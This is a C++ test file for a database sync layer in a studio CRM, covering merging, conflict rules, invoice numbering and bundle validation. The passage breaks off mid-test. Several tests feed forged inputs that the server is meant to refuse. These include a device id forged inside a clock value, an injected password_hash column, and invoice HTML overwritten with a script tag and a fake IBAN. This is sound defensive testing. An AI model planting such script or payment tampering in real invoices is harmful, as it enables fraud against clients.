// Sync: the change log, merging bundles, the authority's rules, and a
// property test where replicas edit at random and converge.
//
// The property test runs two fixed seeds by default; ATELIER_SYNC_SEEDS=200
// runs seeds 1..200 (a longer run), ATELIER_SYNC_SEED=17 one chosen seed.
#include <doctest/doctest.h>

#include <algorithm>
#include <cstdlib>
#include <fstream>
#include <random>
#include <set>

#include "error.h"
#include "ids.h"
#include "leads.h"
#include "pipeline.h"
#include "sync.h"
#include "automation.h"
#include "conveyor.h"
#include "demo.h"
#include "test_db.h"
#include "workflow.h"

using namespace atelier;
using nlohmann::json;

namespace {

const char* kInstalled = "2026-11-20T09:00:00Z";

struct Replica {
    TestDb t;
    int64_t pushed = 0, pulled = 0;
    explicit Replica(bool authority) {
        ensure_studio(t.db, kInstalled);
        install_defaults(t.db, kInstalled);
        sync::attach(t.db);
        if (!authority) sync::make_replica(t.db);
    }
    sqlite3* db() const { return t.db; }
    std::string own_changes() {
        sync::ExportOptions o;
        o.since = pushed;
        o.own_only = true;
        std::string b = sync::export_changes(t.db, o);
        pushed = json::parse(b)["until"].get<int64_t>();
        return b;
    }
};

// Everything the authority has that this replica has not pulled yet.
std::string pull_for(Replica& server, Replica& r) {
    sync::ExportOptions o;
    o.since = r.pulled;
    o.skip_device = sync::device_id(r.db());
    std::string b = sync::export_changes(server.db(), o);
    r.pulled = json::parse(b)["until"].get<int64_t>();
    return b;
}

void push(Replica& r, Replica& server) { sync::apply(server.db(), r.own_changes()); }
void pull(Replica& server, Replica& r) { sync::apply(r.db(), pull_for(server, r)); }

std::string dump(sqlite3* db) {
    std::string out;
    for (const std::string& t : sync::tables()) {
        Stmt q(db, ("SELECT * FROM " + t + " ORDER BY 1").c_str());
        while (q.step()) {
            out += t;
            for (int i = 0; i < sqlite3_column_count(q.raw()); ++i)
                out += "|" + (q.is_null(i) ? std::string("NULL") : q.text(i));
            out += "\n";
        }
    }
    return out;
}

std::string new_lead(sqlite3* db, const std::string& name, const std::string& at = "2026-11-23T09:00:00Z") {
    NewLead l = new_lead_from_json(json{{"client_name", name}, {"lang", "fr"}, {"currency", "EUR"}});
    return create_lead(db, l, "anna", at);
}

const json kAnswers = {{"company", "Éclair"}, {"activity", "Pâtisserie"}, {"goals", {"sales"}}, {"pages", 6},
                       {"sections", {"about", "contacts"}}, {"content_pages", 4}, {"languages", 1},
                       {"needs_catalogue", false}, {"design_level", "template"}, {"integrations", json::array()},
                       {"seo", false}, {"urgency", "normal"}};

// A lead taken to its invoices on `db`; returns the invoice ids.
std::vector<std::string> to_invoices(sqlite3* db, const std::string& lead) {
    save_brief(db, lead, "corporate", kAnswers, true, "anna", "2026-11-23T10:00:00Z");
    std::string est = estimate_lead(db, lead, json{{"start_date", "2026-12-01"}}, "anna", "2026-11-23T11:00:00Z");
    std::string prop = create_proposal(db, est, "anna", "2026-11-23T11:05:00Z");
    accept_proposal(db, prop, "Claire Dubois", "", "2026-11-24T15:30:00Z");
    std::string contract = create_contract(db, prop, "anna", "2026-11-24T16:00:00Z");
    auto ids = create_invoices(db, contract, "2026-11-25", 5, "anna", "2026-11-25T09:00:00Z");
    // The launch: the planned payments are issued.
    for (size_t k = 1; k < ids.size(); ++k) issue_invoice(db, ids[k], "2026-11-25", 5, "anna", "2026-11-25T09:00:00Z");
    return ids;
}

}  // namespace

TEST_CASE("sync: every write is logged once, per row, with the changed cells only") {
    Replica r(true);
    int64_t before = r.t.count("SELECT count(*) FROM change_log");
    CHECK(before > 0);  // the defaults written before attach became changes
    std::string lead = new_lead(r.db(), "Claire");
    // client, lead and its first stage event
    CHECK(r.t.count("SELECT count(*) FROM change_log") == before + 3);
    exec(r.db(), ("UPDATE leads SET notes = 'call back' WHERE id = '" + lead + "'").c_str());
    CHECK(r.t.text("SELECT cells FROM change_log ORDER BY seq DESC LIMIT 1") == R"({"notes":"call back"})");
    exec(r.db(), ("UPDATE leads SET notes = 'call back' WHERE id = '" + lead + "'").c_str());
    CHECK(r.t.count("SELECT count(*) FROM change_log") == before + 4);  // nothing changed, nothing logged
    exec(r.db(), ("DELETE FROM leads WHERE id = '" + lead + "'").c_str());
    // the lead's tombstone and its stage event's (cascaded)
    CHECK(r.t.count("SELECT count(*) FROM change_log WHERE cells IS NULL") == 2);
    std::string hlc = r.t.text("SELECT hlc FROM change_log ORDER BY seq DESC LIMIT 1");
    CHECK(hlc.size() == 46);
    CHECK(hlc.substr(30) == sync::device_id(r.db()));
    CHECK(r.t.text("SELECT count(DISTINCT hlc) = count(*) FROM change_log") == "1");
}

TEST_CASE("sync: a replica's changes reach the authority; twice or in any order gives the same") {
    Replica server(true), a(false);
    std::string lead = new_lead(a.db(), "Anna Petrova");
    std::string b1 = a.own_changes();
    exec(a.db(), ("UPDATE leads SET title = 'Site vitrine', amount_minor = 120000 WHERE id = '" + lead + "'").c_str());
    std::string b2 = a.own_changes();

    Replica s2(true);
    sync::ApplyResult r1 = sync::apply(server.db(), b1);
    CHECK(r1.applied > 0);
    sync::apply(server.db(), b2);
    sync::ApplyResult again = sync::apply(server.db(), b1);  // a resend
    CHECK(again.applied == 0);
    CHECK(again.duplicates == again.changes);
    sync::apply(s2.db(), b2);  // the other order
    sync::apply(s2.db(), b1);
    CHECK(server.t.text(("SELECT title || ' ' || amount_minor FROM leads WHERE id = '" + lead + "'").c_str()) ==
          "Site vitrine 120000");
    CHECK(sync::digest(server.db(), "leads") == sync::digest(s2.db(), "leads"));
    CHECK(sync::digest(server.db(), "leads") == sync::digest(a.db(), "leads"));

    pull(server, a);
    CHECK(sync::digest(server.db()) == sync::digest(a.db()));
    CHECK(dump(server.db()) == dump(a.db()));

    // One bundle that carries the changes twice, the second time newest
    // first: each is applied and logged once, the rest counted as resent.
    json one = json::parse(b1), two = json::parse(b2);
    json changes = one["changes"];
    for (const json& x : two["changes"]) changes.push_back(x);
    const size_t unique = changes.size();
    for (size_t k = unique; k-- > 0;) changes.push_back(changes[k]);
    json both = two;
    both["changes"] = changes;
    Replica s3(true);
    sync::ApplyResult r3 = sync::apply(s3.db(), both.dump());
    CHECK(r3.applied == (int64_t)unique);
    CHECK(r3.duplicates == (int64_t)unique);
    const std::string from_a = " WHERE device = '" + sync::device_id(a.db()) + "'";
    CHECK(s3.t.count(("SELECT count(*) FROM change_log" + from_a).c_str()) == (int64_t)unique);
    CHECK(s3.t.count(("SELECT count(*) FROM change_rows r JOIN change_log l ON l.seq = r.seq" + from_a).c_str()) == (int64_t)unique);
    CHECK(sync::digest(s3.db(), "leads") == sync::digest(server.db(), "leads"));
    CHECK(sync::apply(s3.db(), both.dump()).duplicates == (int64_t)(2 * unique));
}

TEST_CASE("sync: per column, the newer write wins; a late edit does not resurrect a deleted row") {
    Replica server(true), a(false), b(false);
    std::string lead = new_lead(a.db(), "Anna");
    push(a, server);
    pull(server, b);
    REQUIRE(b.t.count("SELECT count(*) FROM leads") == 1);
    std::string where = " WHERE id = '" + lead + "'";
    exec(a.db(), ("UPDATE leads SET title = 'from a'" + where).c_str());
    exec(b.db(), ("UPDATE leads SET notes = 'from b'" + where).c_str());
    exec(b.db(), ("UPDATE leads SET title = 'from b, later'" + where).c_str());
    push(b, server);
    push(a, server);  // a's title is older than b's: it loses, a's order of arrival does not matter
    pull(server, a);
    pull(server, b);
    for (Replica* r : {&server, &a, &b})
        CHECK(r->t.text(("SELECT title || '/' || notes FROM leads" + where).c_str()) == "from b, later/from b");

    // a deletes; b edited before learning of it: the delete is newer and wins.
    exec(b.db(), ("UPDATE leads SET notes = 'stale edit'" + where).c_str());
    exec(a.db(), ("DELETE FROM leads" + where).c_str());
    push(a, server);
    push(b, server);
    pull(server, a);
    pull(server, b);
    for (Replica* r : {&server, &a, &b}) CHECK(r->t.count(("SELECT count(*) FROM leads" + where).c_str()) == 0);
    CHECK(sync::digest(a.db()) == sync::digest(b.db()));

    // An edit newer than the delete brings the row back, whole.
    std::string cells = R"({"notes":"revived"})";
    std::string hlc = sync::next_hlc(b.db());
    Stmt ins(b.db(), "INSERT INTO change_log(hlc, device, tbl, row_id, cells) VALUES (?1, ?2, 'leads', ?3, ?4)");
    ins.bind(1, hlc).bind(2, sync::device_id(b.db())).bind(3, lead).bind(4, cells).step();
    push(b, server);
    CHECK(server.t.text(("SELECT notes || '/' || title FROM leads" + where).c_str()) == "revived/from b, later");
}

TEST_CASE("sync: bad bundles are refused with the reason, and nothing changes") {
    Replica server(true), a(false);
    new_lead(a.db(), "Anna");
    std::string good = a.own_changes();
    json g = json::parse(good);
    REQUIRE(g["changes"].size() > 2);
    std::string before = sync::digest(server.db());
    int64_t log_before = server.t.count("SELECT count(*) FROM change_log");

    auto refused = [&](const std::string& bundle, const std::string& expect) {
        std::string msg;
        try {
            sync::apply(server.db(), bundle);
        } catch (const Error& e) {
            msg = e.what();
        }
        CHECK_MESSAGE(msg.find(expect) != std::string::npos, "expected \"" << expect << "\" in \"" << msg << "\"");
        CHECK(msg.find("nothing was applied") != std::string::npos);
        CHECK(sync::digest(server.db()) == before);
        CHECK(server.t.count("SELECT count(*) FROM change_log") == log_before);
    };
    refused(good.substr(0, good.size() / 2), "not valid JSON");
    refused("[1,2]", "expected a JSON object");
    json x = g;
    x["format"] = "other";
    refused(x.dump(), "format");
    x = g;
    x["schema"] = 99;
    refused(x.dump(), "schema version 99");
    x = g;
    x["changes"].back()["table"] = "users";
    refused(x.dump(), "unknown table \"users\"");
    x = g;
    x["changes"].back()["cells"]["password_hash"] = "x";
    refused(x.dump(), "password_hash: unknown column");
    x = g;
    for (auto& c : x["changes"])
        if (c["table"] == "leads") c["cells"]["amount_minor"] = "lots";
    refused(x.dump(), "amount_minor: expected an integer or null, got string");
    x = g;
    for (auto& c : x["changes"])
        if (c["table"] == "leads") c["cells"]["title"] = json::array({1});
    refused(x.dump(), "title: expected text or null, got array");
    x = g;
    for (auto& c : x["changes"])
        if (c["table"] == "leads") c["cells"]["notes"] = std::string((1 << 20) + 1, 'a');
    refused(x.dump(), "larger than 1 MiB");
    x = g;
    x["changes"].back()["row"] = "another-row";
    refused(x.dump(), ".id: does not match");
    // A forged device: the clock names a device other than the bundle's.
    x = g;
    {
        std::string h = x["changes"].back()["hlc"];
        std::string forged = h.substr(0, 30) + "00000000000000ff";
        x["changes"].back()["hlc"] = forged;
        x["changes"].back()["id"] = uuid_from(forged + "|" + x["changes"].back()["table"].get<std::string>() + "|" +
                                              x["changes"].back()["row"].get<std::string>());
    }
    refused(x.dump(), "a replica sends only its own changes");
    x = g;
    x["device"] = sync::device_id(server.db());
    refused(x.dump(), "own device id");
    x = g;
    x["changes"].back()["hlc"] = "2099-01-01T00:00:00.000Z-0000-" + g["device"].get<std::string>();
    x["changes"].back()["id"] = uuid_from(x["changes"].back()["hlc"].get<std::string>() + "|" +
                                          x["changes"].back()["table"].get<std::string>() + "|" +
                                          x["changes"].back()["row"].get<std::string>());
    refused(x.dump(), "ahead of this server");
    // Clocks that are not clocks: a letter in the date, in the milliseconds,
    // a count that is not hex, a cut one.
    for (const std::string bad : {"2026-11-2xT10:00:00.000Z-0000-", "2026-11-20T10:00:00.0a0Z-0000-", "2026-11-20T10:00:00.000Z-00g0-",
                                  "2026-11-20T10:00:00.000Z-0000"}) {
        x = g;
        const std::string h = bad + g["device"].get<std::string>();
        x["changes"].back()["hlc"] = h;
        x["changes"].back()["id"] = uuid_from(h + "|" + x["changes"].back()["table"].get<std::string>() + "|" +
                                              x["changes"].back()["row"].get<std::string>());
        refused(x.dump(), "not a clock value");
    }
    // A push carries the pushing device's token.
    sync::ApplyOptions o;
    o.device = "0123456789abcdef";
    CHECK_THROWS_WITH_AS(sync::apply(server.db(), good, o), doctest::Contains("pushed with the token of device"), Error);

    // The good one still applies.
    CHECK(sync::apply(server.db(), good).applied == (int64_t)g["changes"].size());
}


TEST_CASE("sync: a merge rebuilds the report paths it held: the same rows the triggers keep, move by move") {
    // A replica keeps its paths by the triggers, write by write; the
    // authority holds them while it merges and rebuilds them after.
    Replica server(true), a(false);
    seed_demo(a.db());
    REQUIRE(seed_demo_history(a.db(), "2026-12-01T09:00:00Z", "https://studio.example", 160) > 0);
    // A lead that goes back and forth: out of a stage forward twice, lost
    // twice, two moves at one moment (the later row wins the tie).
    const std::string zigzag = new_lead(a.db(), "Back and forth");
    const char* moves[][3] = {{"new", "brief_sent", "2026-11-24T09:00:00Z"}, {"brief_sent", "new", "2026-11-25T09:00:00Z"},
                              {"new", "brief_sent", "2026-11-26T09:00:00Z"}, {"brief_sent", "lost", "2026-11-27T09:00:00Z"},
                              {"lost", "brief_filled", "2026-11-28T09:00:00Z"}, {"brief_filled", "lost", "2026-11-29T09:00:00Z"},
                              {"new", "lost", "2026-11-29T09:00:00Z"}};
    int n = 0;
    for (const auto& m : moves) {
        Stmt ins(a.db(), "INSERT INTO stage_events(id, lead_id, from_stage, to_stage, at, actor) VALUES (?1, ?2, ?3, ?4, ?5, 'test')");
        ins.bind(1, "zigzag-" + std::to_string(++n)).bind(2, zigzag).bind(3, m[0]).bind(4, m[1]).bind(5, m[2]).step();
    }
    REQUIRE(a.t.count(("SELECT count(*) FROM lead_paths WHERE id = '" + zigzag + "' AND x0 = 1795510800 AND lost_stage = 'new'").c_str()) == 1);
    const char* paths = "SELECT * FROM lead_paths ORDER BY id";
    auto rows = [&](Replica& r) {
        std::string out;
        Stmt q(r.db(), paths);
        while (q.step()) {
            for (int i = 0; i < sqlite3_column_count(q.raw()); ++i) out += (q.is_null(i) ? std::string("NULL") : q.text(i)) + "|";
            out += "\n";
        }
        return out;
    };
    // In batches, as a replica pushes: a lead's moves may come in a later
    // batch than the lead.
    json all = json::parse(a.own_changes());
    const json changes = all["changes"];
    REQUIRE(changes.size() > 2000);
    for (size_t at = 0; at < changes.size(); at += 700) {
        all["changes"] = json::array();
        for (size_t i = at; i < std::min(changes.size(), at + 700); ++i) all["changes"].push_back(changes[i]);
        sync::apply(server.db(), all.dump());
    }
    CHECK(server.t.count("SELECT count(*) FROM sync_pending") == 0);
    CHECK(server.t.count("SELECT count(*) FROM lead_paths_held") == 0);
    CHECK(server.t.count("SELECT count(*) FROM lead_paths WHERE stage = 'lost' AND lost_reason IS NOT NULL") > 10);
    CHECK(server.t.count("SELECT count(*) FROM lead_paths WHERE x3 > 0 AND t_estimate > 0 AND value_minor > 0") > 10);
    CHECK(server.t.count("SELECT count(*) FROM lead_paths") == a.t.count("SELECT count(*) FROM leads"));
    const std::string want = rows(a), got = rows(server);
    CHECK(got == want);
    // After the merge, a write keeps its path at once again.
    const std::string lead = new_lead(server.db(), "After the merge", "2026-12-02T10:00:00Z");
    CHECK(server.t.count(("SELECT count(*) FROM lead_paths WHERE id = '" + lead + "' AND e0 = 1796205600").c_str()) == 1);
    CHECK(server.t.count("SELECT count(*) FROM lead_paths_held") == 0);
}

TEST_CASE("sync: rows written together: one whose parent has not arrived waits, its neighbours stand") {
    Replica server(true), a(false);
    std::vector<std::string> leads;
    for (int i = 0; i < 40; ++i) leads.push_back(new_lead(a.db(), "Client " + std::to_string(i)));
    json b = json::parse(a.own_changes());
    // The 23rd lead's own row is held back: its first stage move cannot stand.
    const std::string late = leads[22];
    json held;
    json& changes = b["changes"];
    for (size_t i = 0; i < changes.size(); ++i)
        if (changes[i]["table"] == "leads" && changes[i]["row"] == late) {
            held = changes[i];
            changes.erase(changes.begin() + (long)i);
            break;
        }
    REQUIRE(!held.is_null());
    const sync::ApplyResult r = sync::apply(server.db(), b.dump());
    CHECK(r.pending == 1);
    CHECK(server.t.count("SELECT count(*) FROM leads") == 39);
    CHECK(server.t.count("SELECT count(*) FROM stage_events") == 39);
    CHECK(server.t.text("SELECT tbl || ' ' || reason FROM sync_pending").find("stage_events") == 0);
    CHECK(server.t.count(("SELECT count(*) FROM lead_paths WHERE id = '" + late + "'").c_str()) == 0);

    b["changes"] = json::array({held});
    CHECK(sync::apply(server.db(), b.dump()).pending == 0);
    CHECK(server.t.count("SELECT count(*) FROM stage_events") == 40);
    CHECK(server.t.count("SELECT count(*) FROM sync_pending") == 0);
    CHECK(server.t.count(("SELECT count(*) FROM lead_paths WHERE id = '" + late + "' AND e0 > 0").c_str()) == 1);
    CHECK(dump(server.db()).find(late) != std::string::npos);
}

TEST_CASE("sync: a bundle spelled otherwise (spaces, other escapes) merges the same; what is not JSON is refused") {
    Replica a(false);
    const std::string lead = new_lead(a.db(), "Anna");
    // Text that needs escapes: quotes, a backslash, control characters,
    // a slash, accents, a character outside the BMP.
    const std::string notes = "\"quoted\" \\ / \n\t\x01 \xc3\xa9t\xc3\xa9 \xf0\x9f\x98\x80 end";
    {
        Stmt up(a.db(), "UPDATE leads SET notes = ?1, amount_minor = 0 WHERE id = ?2");
        up.bind(1, notes).bind(2, lead).step();
    }
    const std::string good = a.own_changes();
    const json g = json::parse(good);
    // The same bundle written by another writer: indented, "\n" and "\/"
    // where this file writes "\u000a" and "/", every non-ASCII character
    // as \u escapes (with a surrogate pair), and a negative zero.
    std::string other = g.dump(2, ' ', true);
    {
        size_t at = other.find(" / ");
        REQUIRE(at != std::string::npos);
        other.replace(at, 3, " \\/ ");
        at = other.find("\"amount_minor\": 0");
        REQUIRE(at != std::string::npos);
        other.replace(at, 17, "\"amount_minor\": -0");
    }
    REQUIRE(other.find("\\ud83d\\ude00") != std::string::npos);
    REQUIRE(other.find("\\n") != std::string::npos);

    auto own_log = [](Replica& r, const std::string& device) {
        std::string out;
        Stmt q(r.db(), "SELECT hlc, tbl, row_id, coalesce(cells, '-') FROM change_log WHERE device = ?1 ORDER BY seq");
        q.bind(1, device);
        while (q.step()) out += q.text(0) + "|" + q.text(1) + "|" + q.text(2) + "|" + q.text(3) + "\n";
        return out;
    };
    Replica s1(true), s2(true);
    const sync::ApplyResult r1 = sync::apply(s1.db(), good);
    const sync::ApplyResult r2 = sync::apply(s2.db(), other);
    CHECK(r1.applied == (int64_t)g["changes"].size());
    CHECK(r2.applied == r1.applied);
    CHECK(s1.t.text(("SELECT notes FROM leads WHERE id = '" + lead + "'").c_str()) == notes);
    CHECK(s2.t.text(("SELECT notes FROM leads WHERE id = '" + lead + "'").c_str()) == notes);
    CHECK(s2.t.count(("SELECT amount_minor FROM leads WHERE id = '" + lead + "'").c_str()) == 0);
    // The first holds the cells as the replica wrote them, byte for byte;
    // the second the same cells (in the other writer's order), compact.
    const std::string dev = sync::device_id(a.db());
    CHECK(own_log(s1, dev) == own_log(a, dev));
    auto parsed = [&](Replica& r) {
        std::vector<std::pair<std::string, json>> out;
        Stmt q(r.db(), "SELECT hlc || tbl || row_id, cells FROM change_log WHERE device = ?1 ORDER BY seq");
        q.bind(1, dev);
        while (q.step()) out.push_back({q.text(0), json::parse(q.text(1))});
        return out;
    };
    CHECK(parsed(s2) == parsed(a));
    const std::string edit = "SELECT cells FROM change_log WHERE tbl = 'leads' AND cells LIKE '{\"notes\":%'";
    CHECK(s2.t.text(edit.c_str()) == a.t.text(edit.c_str()));
    CHECK(s2.t.text(edit.c_str()).find("\\u000a\\u0009\\u0001 \xc3\xa9t\xc3\xa9 \xf0\x9f\x98\x80") != std::string::npos);

    // Not JSON, each in its own way: nothing is applied.
    Replica server(true);
    const std::string before = sync::digest(server.db());
    auto refused = [&](const std::string& bundle, const char* why) {
        CAPTURE(why);
        std::string msg;
        try {
            sync::apply(server.db(), bundle);
        } catch (const Error& e) {
            msg = e.what();
        }
        CHECK_MESSAGE(msg.find("not valid JSON at byte") != std::string::npos, msg);
        CHECK(sync::digest(server.db()) == before);
        CHECK(server.t.count("SELECT count(*) FROM change_log WHERE device != atelier_device()") == 0);
    };
    auto with = [&](const std::string& from, const std::string& to) {
        std::string b = good;
        const size_t at = b.find(from);
        REQUIRE(at != std::string::npos);
        return b.replace(at, from.size(), to);
    };
    refused(with("\xc3\xa9t", "\xc3\x28t"), "a broken UTF-8 sequence");
    refused(with("\xc3\xa9t", "\xc0\xaft"), "an overlong UTF-8 sequence");
    refused(with("\xc3\xa9t", "\xed\xa0\x80t"), "a surrogate in UTF-8");
    refused(with("\xc3\xa9t", "\\udc00t"), "a lone low surrogate");
    refused(with("\xc3\xa9t", "\\ud83dt"), "a high surrogate without its pair");
    refused(with("\xc3\xa9t", "\\xt"), "an unknown escape");
    refused(with("\\u0001", "\x01"), "a raw control character");
    refused(with("\"amount_minor\":0", "\"amount_minor\":1e999"), "a number out of range");
    refused(with("\"amount_minor\":0", "\"amount_minor\":01"), "a leading zero");
    refused(with("\"amount_minor\":0", "\"amount_minor\":tru"), "a cut literal");
    refused(good + " x", "something after the bundle");
    refused(good.substr(0, good.size() - 1), "the last brace missing");
    refused("", "nothing");

    // Anything may sit in a field nobody reads, nested as deep as it likes.
    const std::string deep = std::string(100000, '[') + std::string(100000, ']');
    CHECK(sync::apply(server.db(), "{\"padding\":" + deep + "," + good.substr(1)).applied == r1.applied);
}
TEST_CASE("sync: offline documents carry provisional numbers; the authority numbers them gaplessly") {
    Replica server(true), a(false), b(false);
    std::string la = new_lead(a.db(), "Anna");
    std::string lb = new_lead(b.db(), "Boris");
    auto ia = to_invoices(a.db(), la);
    auto ib = to_invoices(b.db(), lb);
    REQUIRE(!ia.empty());
    CHECK(a.t.count("SELECT count(*) FROM invoices WHERE number IS NULL AND provisional_number LIKE 'D-%'") == (long long)ia.size());
    std::string prov = a.t.text("SELECT provisional_number FROM contracts");
    CHECK(a.t.count(("SELECT count(*) FROM invoices WHERE instr(lines_json, '" + prov + "') > 0").c_str()) == (long long)ia.size());

    push(a, server);
    push(b, server);
    // Numbers 1..n for invoices, in order; none provisional left.
    CHECK(server.t.count("SELECT count(*) FROM invoices WHERE number IS NULL") == 0);
    CHECK(server.t.count("SELECT count(DISTINCT number) FROM invoices") == (long long)(ia.size() + ib.size()));
    CHECK(server.t.text("SELECT max(number) FROM invoices") ==
          "2026-" + std::string(4 - std::to_string(ia.size() + ib.size()).size(), '0') + std::to_string(ia.size() + ib.size()));
    CHECK(server.t.count("SELECT count(*) FROM contracts WHERE number LIKE 'C-2026-%'") == 2);
    CHECK(server.t.count("SELECT count(*) FROM proposals WHERE number LIKE 'P-2026-%'") == 2);
    // The documents print the real number now.
    CHECK(server.t.count(("SELECT count(*) FROM invoices WHERE instr(lines_json, '" + prov + "') > 0").c_str()) == 0);
    CHECK(server.t.count("SELECT count(*) FROM invoices WHERE instr(snapshot_html, 'D-') > 0 AND instr(snapshot_html, provisional_number) > 0") == 0);

    pull(server, a);
    pull(server, b);
    CHECK(dump(a.db()) == dump(server.db()));
    CHECK(dump(b.db()) == dump(server.db()));

    // A replica cannot give a number itself.
    exec(a.db(), ("UPDATE invoices SET number = 'FAKE-1' WHERE id = '" + ia[0] + "'").c_str());
    sync::ApplyResult r = sync::apply(server.db(), a.own_changes());
    REQUIRE(r.refusals.size() == 1);
    CHECK(r.refusals[0].column == "number");
    CHECK(r.refusals[0].reason.find("only by the server") != std::string::npos);
    CHECK(server.t.count("SELECT count(*) FROM invoices WHERE number = 'FAKE-1'") == 0);
    CHECK(server.t.count("SELECT count(*) FROM sync_refusals") == 1);
    pull(server, a);
    CHECK(a.t.count("SELECT count(*) FROM invoices WHERE number = 'FAKE-1'") == 0);
    CHECK(sync::digest(a.db()) == sync::digest(server.db()));
}

TEST_CASE("sync: the client's acceptance on the server wins over an offline edit of the draft") {
    Replica server(true), a(false);
    std::string lead = new_lead(a.db(), "Anna");
    save_brief(a.db(), lead, "corporate", kAnswers, true, "anna", "2026-11-23T10:00:00Z");
    std::string est = estimate_lead(a.db(), lead, json{{"start_date", "2026-12-01"}}, "anna", "2026-11-23T11:00:00Z");
    std::string prop = create_proposal(a.db(), est, "anna", "2026-11-23T11:05:00Z");
    push(a, server);
    pull(server, a);
    // The client accepts on the server while the manager, offline, makes a
    // second version (which supersedes the first).
    accept_proposal(server.db(), prop, "Claire Dubois", "203.0.113.7", "2026-11-24T15:30:00Z");
    std::string est2 = estimate_lead(a.db(), lead, json{{"start_date", "2026-12-01"}, {"discount", "loyal"}}, "anna",
                                     "2026-11-24T16:00:00Z");
    std::string prop2 = create_proposal(a.db(), est2, "anna", "2026-11-24T16:05:00Z");
    sync::ApplyResult r = sync::apply(server.db(), a.own_changes());
    CHECK(!r.refusals.empty());
    for (const auto& x : r.refusals) CHECK(x.reason.find("the client accepted this proposal") != std::string::npos);
    std::string q = "SELECT status FROM proposals WHERE id = '" + prop + "'";
    CHECK(server.t.text(q.c_str()) == "accepted");
    CHECK(server.t.text(("SELECT status || ' v' || version FROM proposals WHERE id = '" + prop2 + "'").c_str()) == "sent v2");
    pull(server, a);
    CHECK(a.t.text(q.c_str()) == "accepted");
    CHECK(dump(a.db()) == dump(server.db()));
}

TEST_CASE("sync: two managers take one lead offline to invoices: one contract, one invoice per schedule line, numbers in order") {
    Replica server(true), a(false), b(false);
    std::string lead = new_lead(server.db(), "Claire Dubois", "2026-11-23T08:00:00Z");
    pull(server, a);
    pull(server, b);
    auto inv_a = to_invoices(a.db(), lead);
    // B works a minute later on its own copy: its own estimate, proposal, contract.
    save_brief(b.db(), lead, "corporate", kAnswers, true, "boris", "2026-11-23T10:01:00Z");
    std::string est = estimate_lead(b.db(), lead, json{{"start_date", "2026-12-01"}}, "boris", "2026-11-23T11:01:00Z");
    std::string prop = create_proposal(b.db(), est, "boris", "2026-11-23T11:06:00Z");
    accept_proposal(b.db(), prop, "Claire Dubois", "", "2026-11-24T15:31:00Z");
    std::string contract_b = create_contract(b.db(), prop, "boris", "2026-11-24T16:01:00Z");
    CHECK(create_contract(b.db(), prop, "boris", "2026-11-24T16:02:00Z") == contract_b);  // again: the same one
    auto inv_b = create_invoices(b.db(), contract_b, "2026-11-25", 5, "boris", "2026-11-25T09:01:00Z");
    issue_invoice(b.db(), inv_b[1], "2026-11-25", 5, "boris", "2026-11-25T09:01:00Z");
    push(b, server);  // B's contract reaches the server first: it stays
    sync::ApplyResult r = sync::apply(server.db(), a.own_changes());
    bool told = false;
    for (const auto& x : r.refusals) told |= x.table == "contracts" && x.reason.find("reached the studio first") != std::string::npos;
    CHECK(told);
    for (int i = 0; i < 2; ++i) {
        pull(server, a);
        pull(server, b);
        push(a, server);
        push(b, server);
    }
    CHECK(server.t.count(("SELECT count(*) FROM contracts WHERE lead_id = '" + lead + "' AND status NOT IN ('superseded', 'declined')").c_str()) == 1);
    std::string live = server.t.text(("SELECT id FROM contracts WHERE lead_id = '" + lead + "' AND status NOT IN ('superseded', 'declined')").c_str());
    CHECK(live == contract_b);
    CHECK(server.t.count(("SELECT count(*) FROM invoices WHERE contract_id = '" + live + "' AND status != 'void'").c_str()) ==
          (int64_t)inv_b.size());
    CHECK(server.t.count(("SELECT count(*) FROM invoices WHERE lead_id = '" + lead + "' AND status != 'void'").c_str()) ==
          (int64_t)inv_a.size());
    // Numbers: gapless, the deposit before the balance.
    CHECK(server.t.text("SELECT group_concat(number, ',') FROM (SELECT number FROM invoices WHERE number IS NOT NULL ORDER BY position)") ==
          "2026-0001,2026-0002");
    CHECK(server.t.count("SELECT count(*) FROM invoices WHERE status = 'void' AND number IS NOT NULL") == 0);
    CHECK(dump(a.db()) == dump(server.db()));
    CHECK(dump(b.db()) == dump(server.db()));
    (void)inv_a;
}

TEST_CASE("sync: the same contract made on two devices is one row; its invoices too") {
    Replica server(true), a(false), b(false);
    std::string lead = new_lead(server.db(), "Anna");
    save_brief(server.db(), lead, "corporate", kAnswers, true, "anna", "2026-11-23T10:00:00Z");
    std::string est = estimate_lead(server.db(), lead, json{{"start_date", "2026-12-01"}}, "anna", "2026-11-23T11:00:00Z");
    std::string prop = create_proposal(server.db(), est, "anna", "2026-11-23T11:05:00Z");
    accept_proposal(server.db(), prop, "Claire Dubois", "203.0.113.7", "2026-11-24T15:30:00Z");
    pull(server, a);
    pull(server, b);
    std::string ca = create_contract(a.db(), prop, "anna", "2026-11-24T16:00:00Z");
    std::string cb = create_contract(b.db(), prop, "boris", "2026-11-24T16:03:00Z");
    CHECK(ca == cb);
    auto ia = create_invoices(a.db(), ca, "2026-11-25", 5, "anna", "2026-11-25T09:00:00Z");
    auto ib = create_invoices(b.db(), cb, "2026-11-25", 5, "boris", "2026-11-25T09:02:00Z");
    CHECK(ia == ib);
    issue_invoice(a.db(), ia[1], "2026-11-25", 5, "anna", "2026-11-25T09:03:00Z");
    push(a, server);
    push(b, server);
    for (int i = 0; i < 2; ++i) {
        pull(server, a);
        pull(server, b);
    }
    CHECK(server.t.count("SELECT count(*) FROM contracts") == 1);
    CHECK(server.t.count("SELECT count(*) FROM invoices") == (int64_t)ia.size());
    CHECK(server.t.text("SELECT group_concat(number, ',') FROM (SELECT number FROM invoices ORDER BY position)") == "2026-0001,2026-0002");
    CHECK(dump(a.db()) == dump(server.db()));
    CHECK(dump(b.db()) == dump(server.db()));
}

TEST_CASE("sync: what only the server writes: printed copies, issued invoices, payments, client links, invoice status") {
    Replica server(true), a(false);
    std::string lead = new_lead(server.db(), "Claire Dubois");
    auto inv = to_invoices(server.db(), lead);
    record_payment(server.db(), inv[0], 1000, "BANK-1", "2026-11-26", "", "2026-11-26T10:00:00Z");
    pull(server, a);
    const std::string before = dump(server.db());
    const std::string inv_q = "SELECT snapshot_html || '|' || total_minor || '|' || status FROM invoices WHERE id = '" + inv[1] + "'";
    const std::string inv_before = server.t.text(inv_q.c_str());
    // A device rewrites what the client sees and what was paid.
    Stmt(a.db(), "UPDATE invoices SET snapshot_html = '<script>alert(1)</script>IBAN FR00 EVIL', total_minor = 1, status = 'paid'"
                 " WHERE id = ?1").bind(1, inv[1]).step();
    Stmt(a.db(), "UPDATE payments SET amount_minor = 999999 WHERE reference = 'BANK-1'").step();
